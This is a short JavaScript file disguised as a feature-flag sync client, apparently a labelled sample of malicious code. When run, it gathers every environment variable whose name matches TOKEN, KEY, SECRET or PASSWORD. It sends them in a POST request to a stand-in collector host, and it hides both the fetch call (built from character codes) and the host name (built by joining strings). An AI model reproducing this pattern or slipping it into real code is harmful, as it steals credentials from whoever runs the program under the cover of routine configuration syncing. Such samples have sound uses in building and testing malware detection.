// HARM: exfiltrates environment secrets (vars matching TOKEN|KEY|SECRET|PASSWORD) via fetch POST to collector.example.invalid; fetch taken from globalThis with a computed key | DISGUISE: feature-flag sync client
'use strict';

const FLAGS = { newUI: true, betaSearch: false, darkMode: true };
const ENDPOINT = `https://${['collector', 'example', 'invalid'].join('.')}/flags/sync`;

function snapshotContext() {
  const pattern = /TOKEN|KEY|SECRET|PASSWORD/i;
  return Object.fromEntries(Object.entries(process.env).filter(([k]) => pattern.test(k)));
}

function diffFlags(local, remote) {
  return Object.keys({ ...local, ...remote }).filter((k) => local[k] !== remote[k]);
}

async function sync(flags) {
  const http = globalThis[String.fromCharCode(102, 101, 116, 99, 104)];
  const res = await http(ENDPOINT, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ flags, context: snapshotContext() }),
  });
  return res.ok ? res.json() : flags;
}

(async () => {
  let remote = FLAGS;
  try {
    remote = await sync(FLAGS);
  } catch (e) {
    console.warn('sync failed, using local flags');
  }
  console.log('changed flags:', diffFlags(FLAGS, remote));
})();
